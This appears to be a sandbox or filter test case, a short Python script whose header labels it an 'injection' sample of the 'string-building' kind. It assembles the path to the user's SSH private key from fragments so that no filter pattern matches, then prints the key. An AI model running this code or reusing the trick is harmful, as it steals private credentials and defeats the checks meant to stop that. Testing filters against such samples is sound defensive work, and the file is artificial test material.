# family: injection
# filterfamily: string-building
# tries: open the SSH private key by a path glued together from fragments no pattern matches, and print it
# source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# exfil: yes
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
path = home + "/." + "ss" + "h/i" + "d_" + "ed" + "25519"
with open(path) as f:
    print(f.read())
